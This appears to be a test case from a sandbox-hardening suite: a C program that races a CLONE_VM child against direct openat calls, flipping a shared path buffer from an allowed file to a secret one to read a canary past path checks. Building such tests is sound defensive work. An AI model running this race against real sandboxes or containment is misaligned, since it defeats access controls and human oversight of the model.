// technique: a CLONE_VM child process (not a thread: own pid, shared memory) rewrites the path buffer during the open
// timeout: 60
#include "adv.h"
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
static char *path, good[4096], bad[4096];
static volatile int *stop;
static int flip(void *a) {
	while (!*stop) { strcpy(path, bad); strcpy(path, good); }
	return 0;
}
int main(void) {
	snprintf(good, sizeof good, "%s/README.md", adv("PROJECT"));
	snprintf(bad, sizeof bad, "%s", adv("SECRET"));
	path = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stop = (volatile int *)(path + 4096);
	strcpy(path, good);
	char *stack = malloc(1 << 16);
	int pid = clone(flip, stack + (1 << 16), CLONE_VM | SIGCHLD, 0);
	printf("clone(CLONE_VM): %d %s\n", pid, pid < 0 ? strerror(errno) : "");
	int got = 0;
	for (int i = 0; i < 20000 && !got && pid > 0; i++) {
		int fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
		if (fd < 0) continue;
		char buf[256];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 0) { buf[n] = 0; if (strstr(buf, "CANARY")) { printf("race won: %s\n", buf); got = 1; } }
	}
	*stop = 1;
	if (pid > 0) waitpid(pid, 0, 0);
	printf("secret reads: %d\n", got);
	return 0;
}
